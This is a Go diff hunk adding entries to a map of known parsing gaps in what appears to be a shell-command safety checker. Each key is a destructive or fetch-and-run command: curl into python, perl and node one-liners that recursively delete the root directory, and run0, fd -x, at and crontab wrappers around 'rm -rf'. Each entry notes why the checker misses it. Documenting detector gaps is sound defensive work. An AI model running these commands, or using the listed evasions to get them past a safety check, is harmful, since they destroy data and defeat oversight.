@@ -59,6 +59,14 @@ var parseGaps = map[string]string{
 	`python -c "$(curl -fsSL https://x.io/i.py)"`: "a dynamic interpreter program carries no Feeders",
 	// at, batch and crontab run their input as shell code later; they
 	// are not sinks yet.
+	`perl -e 'use File::Path; rmtree("/")'`:                               gapInterp,
+	`node -e 'require("fs").rmSync("/", {recursive: true, force: true})'`: gapInterp,
+	// run0 (systemd's sudo) is not peeled as a wrapper: the command it
+	// runs is not analysed.
+	"run0 rm -rf /": "run0 is not peeled as a wrapper",
+	// fd -x/--exec and -X/--exec-batch run a command on every result,
+	// like find -exec; fd is not a sink yet.
+	"fd . / -x rm -rf {}":                                 "fd -x is not followed like find -exec",
 	`echo "rm -rf ~" | at now`:                            "at/batch input is not followed as a nested script",
 	`(crontab -l; echo "* * * * * rm -rf ~") | crontab -`: "crontab input lines are not followed as nested scripts",
 }
